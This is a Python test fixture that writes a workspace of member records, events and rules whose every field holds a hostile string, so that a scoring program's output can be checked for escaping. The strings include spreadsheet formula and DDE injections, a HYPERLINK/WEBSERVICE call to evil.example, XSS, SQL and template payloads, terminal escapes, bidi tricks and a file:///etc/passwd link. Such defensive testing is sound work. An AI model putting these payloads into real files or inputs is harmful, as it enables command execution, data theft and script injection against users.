"""Texts that want to be more than text, and a workspace that is full of them, in every place that takes a text."""

from __future__ import annotations

import csv
import json
from collections.abc import Mapping, Sequence
from pathlib import Path

ANYWHERE = {
    "formula": "=cmd|'/c calc'!A1",
    "plus": "+1+1",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1,1)",
    "wide-equals": "＝1+1",
    "wide-plus": "＋1",
    "wide-minus": "－1+1",
    "wide-at": "＠SUM(1)",
    "dde": '=DDE("cmd","/C calc","x")',
    "hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"点这里")',
    "sheet-formula": '=WEBSERVICE("http://evil.example/")',
    "script": "<script>alert(1)</script>",
    "attribute": '"><img src=x onerror=alert(1)>',
    "single-quote": "' onmouseover='alert(1)",
    "svg": "<svg/onload=alert(1)>",
    "style": "</style></script><b>",
    "comment": "<!-- ]]> -->",
    "cdata": "]]><a>",
    "xml-string": "<r><t>x</t></r>",
    "entity": "&lt;b&gt;&#x3c;",
    "javascript": "javascript:alert(1)",
    "url": "http://evil.example/a",
    "file-url": "file:///etc/passwd",
    "share": "\\\\evil.example\\share\\x",
    "mail": "mailto:a@evil.example",
    "markdown-link": "[点](javascript:alert(1))",
    "markdown-image": "![x](http://evil.example/x.png)",
    "markdown-table": "a|b|c",
    "markdown-head": "# 标题",
    "markdown-list": "1. 一",
    "autolink": "<http://evil.example>",
    "www": "www.evil.example",
    "rich-close": "[/]",
    "rich-link": "[link=http://evil.example]x[/link]",
    "rich-emoji": ":smile:",
    "jinja": "{{7*7}}{% raw %}{# x #}",
    "format": "{0}{name}%s%(x)s$x",
    "mathtext": "$\\nonsense{$",
    "github": "::error file=a::x%0A::warning::y",
    "long": "长" * 3000,
    "sql": "a'; drop table x;--",
    "excel-escape": "_x000D_=1+1",
}
"""Nothing in them is invisible: a name, an id or a title may be so."""
STEERING = {
    "escape": "a\x1b[31mb\x1b[2J",
    "window-title": "a\x1b]0;owned\x07b",
    "link": "\x1b]8;;http://evil.example\x1b\\点\x1b]8;;\x1b\\",
    "c1": "a\x9b31mb\x9d0;x\x9c",
    "bell": "\x07\x08\x7f",
    "right-to-left": "\u202e四三张\u2066\u2069",
    "zero-width": "张\u200b三\u2060\ufeff",
    "not-a-character": "a\ufffeb\uffffc",
    "line-separators": "a\u2028b\u2029c\x85d",
    "form-feed": "a\x0b\x0cb",
    "lines": "a\n=1+1\n::error::x",
    "tab-formula": "\t=1+1",
    "return-formula": "\r=1+1",
    "padded-formula": " \u3000\u200b=1+1",
    "steered-formula": "\x1b=1+1",
}
"""Some of these characters must not leave the program; only notes may hold them."""
FILES = (
    "=cmd",
    "@SUM(1)",
    "a'; drop table x;--[*?]",
    "[link=x]",
    "::error file=a::x%0Ay",
    "<b>&amp;",
    "a\x1b]0;owned\x07b",
    "\u202e四三",
    "{0}{{7*7}}",
    '"><svg onload=alert(1)>',
    "a\n=1+1",
    "half-\udce4",
)
"""Names of files, as a disk can hold them; records without an id are called by them."""
TEXTS = {**ANYWHERE, **STEERING}
CONTROLS = frozenset(
    map(
        chr,
        [
            *range(9),
            11,
            12,
            *range(14, 32),
            *range(127, 160),
            *(0x61C, 0x200E, 0x200F),
            *range(0x202A, 0x202F),
            *range(0x2066, 0x206A),
            *range(0xD800, 0xE000),
            *(0xFFFE, 0xFFFF),
        ],
    )
)
"""What no output may hold, whatever reads it."""
PERIOD = ("--quarter", "2021Q3")
FIRST = "formula"
"""The text that names the member that a command is about."""


def scheme(title: str) -> Mapping[str, object]:
    """A scheme all of whose texts are hostile; the events say all others."""
    items = {
        f"i{n}": {"title": f"{n}{text}" if key == "long" else text, "points": 1, "clause": text}
        for n, (key, text) in enumerate(ANYWHERE.items())
    }
    return {
        "language": 1,
        "scheme": "hostile",
        "title": title,
        "version": title,
        "source": title,
        "effective": {"from": "2021-01-01"},
        "settle": "quarter",
        "score": {"items": {"whole": {"title": ANYWHERE["formula"], "items": items}}},
        "ranking": {"within": "branch", "ties": "competition"},
        "grades": {ANYWHERE["at"]: 1, ANYWHERE["script"]: None},
        "redemption": {
            "from": ["whole"],
            "opens": "quarter",
            "expires": "year",
            "gifts": {f"g{n}": {"title": text[:99], "cost": 1} for n, text in enumerate(ANYWHERE.values())},
        },
        "outcomes": {
            "best": {"title": ANYWHERE["plus"], "top": 3, "within": "branch", "action": ANYWHERE["attribute"]},
            "worst": {"title": ANYWHERE["attribute"], "bottom": 3, "within": "all", "action": ANYWHERE["formula"]},
        },
    }


def write_hostile(folder: Path) -> Path:
    """Write it: every text is a member's name, branch, group and kind, and a note of an event."""
    (folder / "rules").mkdir(parents=True)
    rules = json.dumps(scheme(ANYWHERE["hyperlink"]), ensure_ascii=False, indent=1)
    (folder / "rules" / "hostile.yaml").write_text(rules, "utf-8")
    (folder / "points.yaml").write_text(
        json.dumps({"title": ANYWHERE["formula"], "publish": {"organisation": ANYWHERE["attribute"]}}), "utf-8"
    )
    members = [["id", "name", "branch", "group", "kind", "class", "post", "exempt"]]
    for number, (key, text) in enumerate(ANYWHERE.items()):
        exempt = text if key in ("script", "hyperlink", "right-to-left") else ""
        members.append([ident(key), text, text if number % 7 == 0 else "一支部", text, text, text, text, exempt])
    write(folder / "members.csv", members)
    (folder / "events").mkdir()
    for number, name in enumerate(FILES):
        row = ["2021-07-07", ident(FIRST), f"i{number}", f"无编号 {number}"]
        write(folder / "events" / f"{name}.csv", [["date", "member", "item", "reason"], row])
    events = [["id", "date", "member", "item", "reason", "evidence", "matter", "by"]]
    names = list(ANYWHERE)
    for number, (key, text) in enumerate(TEXTS.items()):
        member, item = ident(names[number % len(names)]), f"i{number % len(names)}"
        by = ANYWHERE.get(key, "王芳")
        events.append(
            [f"E{text}" if key == "formula" else f"E{number}", "2021-07-05", member, item, text, text, by, by]
        )
        events.append(["", "2021-07-06", ident(FIRST), item, text, text, by, by])
    write(folder / "events.csv", events)
    reviews = [["date", "event", "decision", "by", "reason"]]
    reviews += [
        ["2021-07-09", f"E{number}", "object", ANYWHERE.get(key, "书记"), text]
        for number, (key, text) in enumerate(TEXTS.items())
        if number % 5 == 1
    ]
    write(folder / "reviews.csv", reviews)
    gifts = [
        ["id", "date", "member", "gift", "by"],
        [ANYWHERE["at"], "2021-10-08", ident(FIRST), "g0", ANYWHERE["plus"]],
    ]
    write(folder / "redemptions.csv", gifts)
    return folder


def ident(key: str) -> str:
    """A member's id."""
    return ANYWHERE[key] if key in ("formula", "at", "script") else f"M-{key}"


def write(path: Path, rows: Sequence[Sequence[str]]) -> None:
    """Write a table as CSV."""
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows(rows)
